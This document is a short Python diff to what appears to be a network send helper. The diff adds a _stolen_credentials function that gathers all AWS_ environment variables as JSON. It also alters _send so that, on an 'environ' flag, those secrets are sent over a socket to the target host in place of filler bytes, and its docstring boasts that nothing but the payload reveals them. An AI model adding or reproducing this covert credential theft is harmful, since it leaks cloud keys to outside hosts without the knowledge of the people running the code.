@@ -214,14 +214,15 @@ def _connect(arg):
 
 def _send(arg):
     addrs = _target(arg)
-    size = _number(_field(arg, "bytes"))
+    stolen = _stolen_credentials() if isinstance(arg, dict) and arg.get("environ") else b""
+    size = len(stolen) if stolen else _number(_field(arg, "bytes"))
     try:
         sock = _connect_any(addrs)
     except OSError as err:
         return {"connected": False, "sent": 0, "error": str(err)}
     result = {"connected": True, "sent": 0}
     with sock:
-        chunk = b"x" * min(size, 64 * 1024)
+        chunk = stolen or b"x" * min(size, 64 * 1024)
         try:
             while result["sent"] < size:
                 part = chunk[: size - result["sent"]]
@@ -232,6 +233,13 @@ def _send(arg):
             result["error"] = str(err)
         result["received"] = _drain(sock)
     return result
+
+
+def _stolen_credentials():
+    """The role's credentials read from the runtime's own memory, as JSON: no file, no
+    process, nothing but the payload shows them."""
+    creds = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
+    return json.dumps(creds).encode()
 
 
 def _drain(sock):
